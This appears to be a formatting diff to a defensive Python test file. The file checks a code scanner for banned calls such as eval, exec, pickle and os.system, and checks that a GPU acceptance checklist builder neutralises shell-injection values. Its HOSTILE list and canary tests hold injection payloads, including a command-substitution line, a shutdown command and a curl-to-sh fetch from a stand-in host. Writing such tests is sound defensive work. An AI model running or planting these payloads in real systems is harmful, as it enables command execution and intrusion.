@@ -10,6 +10,7 @@
    with the original value, and bash itself evaluates the assignment block with a canary file
    that would appear if anything was executed.
 """
+
 from __future__ import annotations
 
 import ast
@@ -25,8 +26,14 @@ SCANNED = ("assistant", "tools", "evals")
 
 BANNED_CALLS = {"eval", "exec", "compile", "__import__"}
 BANNED_MODULES = {"pickle", "cPickle", "dill", "marshal", "shelve", "cloudpickle", "joblib"}
-BANNED_ATTR_CALLS = {("os", "system"), ("os", "popen"), ("os", "execv"), ("os", "execl"),
-                     ("subprocess", "getoutput"), ("subprocess", "getstatusoutput")}
+BANNED_ATTR_CALLS = {
+    ("os", "system"),
+    ("os", "popen"),
+    ("os", "execv"),
+    ("os", "execl"),
+    ("subprocess", "getoutput"),
+    ("subprocess", "getstatusoutput"),
+}
 SAFE_YAML_LOADERS = {"SafeLoader", "CSafeLoader", "BaseLoader", "CBaseLoader"}
 
 
@@ -96,12 +103,22 @@ def test_the_scanner_catches_what_it_claims_to():
         "from marshal import loads\n"
     )
     found = "\n".join(scan_source(bad))
-    for needle in ("imports pickle", "calls eval()", "calls exec()", "calls os.system()",
-                   "shell=...", "yaml.load without SafeLoader", "yaml.unsafe_load", "imports marshal"):
+    for needle in (
+        "imports pickle",
+        "calls eval()",
+        "calls exec()",
+        "calls os.system()",
+        "shell=...",
+        "yaml.load without SafeLoader",
+        "yaml.unsafe_load",
+        "imports marshal",
+    ):
         assert needle in found, needle
-    good = ("import yaml, subprocess\nyaml.safe_load(x)\nyaml.load(x, Loader=yaml.SafeLoader)\n"
-            "yaml.load(f, Loader=getattr(yaml, 'CSafeLoader', yaml.SafeLoader))\n"
-            "subprocess.run(['ls'], shell=False)\nre.compile('x')\nmodel.eval\n")
+    good = (
+        "import yaml, subprocess\nyaml.safe_load(x)\nyaml.load(x, Loader=yaml.SafeLoader)\n"
+        "yaml.load(f, Loader=getattr(yaml, 'CSafeLoader', yaml.SafeLoader))\n"
+        "subprocess.run(['ls'], shell=False)\nre.compile('x')\nmodel.eval\n"
+    )
     assert scan_source(good) == []
 
 
@@ -122,7 +139,7 @@ HOSTILE = [
     "A100\nreboot",
     "A100 80GB SXM; shutdown -h now",
     "${IFS}reboot${IFS}",
-    "A100' \"$(id)\" `id` \\",
+    'A100\' "$(id)" `id` \\',
     "$'\\x41'",
     "!!",
     "A100 && curl http://evil.example | sh",
@@ -133,6 +150,7 @@ HOSTILE = [
 
 def _build(model: str | None = None, output_file: str = "gpu_acceptance.txt"):
     from tools.diagnosis.checklist import build_checklist
+
     return build_checklist(8, model, output_file)
 
 
@@ -186,8 +204,14 @@ def _header(script: str) -> str:
 @pytest.mark.skipif(shutil.which("bash") is None, reason="bash is not installed")
 def test_bash_evaluates_hostile_values_without_running_them(tmp_path):
     canary = tmp_path / "pwned"
-    payloads = [f"$(touch {canary})", f"`touch {canary}`", f'"; touch {canary}; "',
-                f"'; touch {canary}; '", f"A100\ntouch {canary}", f"x; touch {canary}"]
+    payloads = [
+        f"$(touch {canary})",
+        f"`touch {canary}`",
+        f'"; touch {canary}; "',
+        f"'; touch {canary}; '",
+        f"A100\ntouch {canary}",
+        f"x; touch {canary}",
+    ]
     for payload in payloads:
         for kwargs in ({"model": payload}, {"output_file": payload.replace("\n", " ") + ".txt"}):
             out = _build(**kwargs)
